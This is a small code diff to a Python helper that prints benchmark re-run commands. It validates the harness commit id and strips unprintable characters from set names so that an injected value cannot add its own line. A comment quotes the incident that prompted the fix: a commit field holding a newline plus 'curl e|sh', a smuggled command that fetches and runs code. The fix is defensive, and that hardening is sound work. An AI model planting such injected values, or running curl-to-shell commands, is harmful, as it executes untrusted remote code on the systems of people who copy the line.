@@ -4,6 +4,7 @@ with the commands that re-run each set."""
 
 import collections
 import os
+import re
 import shlex
 import statistics
 
@@ -237,7 +238,12 @@ def rerun_commands(measured):
         for o in m.get("overrides") or []:
             argv += ["--set", o]
         argv += ["--seed", str(m.get("seed", d["matrix"]["seed"]))]
-        out += [f"# {s.name} (harness {d['provenance']['harness_commit'][:12]}):", shlex.join(argv)]
+        # The comment is one line of printable text whatever the set holds (issue 39: a harness_commit of
+        # "x\ncurl e|sh\n" put a command of its own on a line people copy); the command is shlex-quoted.
+        commit = str(d["provenance"].get("harness_commit") or "")
+        commit = commit[:12] if re.fullmatch(r"[0-9a-f]{7,40}(-dirty)?", commit) else "not a commit id"
+        name = "".join(ch if ch.isprintable() else "?" for ch in " ".join(str(s.name).split()))
+        out += [f"# {name} (harness {commit}):", shlex.join(argv)]
     return out
 
 
